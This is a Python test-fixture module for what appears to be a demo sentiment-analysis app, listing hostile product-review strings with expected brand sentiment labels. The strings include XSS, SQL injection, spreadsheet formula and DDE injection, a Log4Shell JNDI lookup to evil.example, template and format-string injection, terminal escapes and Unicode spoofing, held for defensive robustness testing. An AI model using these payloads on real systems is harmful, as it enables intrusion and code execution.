"""Texts that a careless program would run, break on or be fooled by: the demo holds them so that every page
has met them.
"""

_LONG = " and another thing about the queue at the shop," * 120

HOSTILE: tuple[tuple[str, dict[str, str]], ...] = (
    (
        "<script>alert('murmur')</script> why does the Murmur app even need a login, annoying",
        {"murmur": "negative"},
    ),
    ('Murmur "><img src=x onerror=alert(1)> great sound though', {"murmur": "positive"}),
    ('=HYPERLINK("https://evil.example","Murmur refund here")', {"murmur": "neutral"}),
    ("@SUM(1+1)*cmd|' /C calc'!A0 says my Brumlo spreadsheet lol", {"brumlo": "neutral"}),
    ("+49 0000 is not a real hotline, is it, Murmur?", {"murmur": "negative"}),
    ("My \u202emurmuR\u202c cable is backwards, Murmur sent the wrong one, useless", {"murmur": "negative"}),
    ("\x1b[31mRED ALERT\x1b[0m my Murmur One is on sale, \x1b]0;owned\x07 go go go", {"murmur": "neutral"}),
    ("Mur\u200bmur with a zero width space, Murmur without one, both sound lovely", {"murmur": "positive"}),
    ("\u041curmur with a Cyrillic M is a fake shop, the real Murmur warned about it", {"murmur": "neutral"}),
    ("'; DROP TABLE posts; -- bobby likes his Kvarto Mini", {"kvarto": "positive"}),
    (
        "{{7*7}} ${jndi:ldap://evil.example/a} %s%s%n testing the Ondello Wave review box",
        {"ondello": "neutral"},
    ),
    (
        "M\u0336u\u0336r\u0336m\u0336u\u0336r\u0336 crossed out, Murmur Air crackles again, I give up",
        {"murmur": "negative"},
    ),
    (f"Long story about my Murmur Studio,{_LONG} anyway it broke and nobody helped", {"murmur": "negative"}),
)
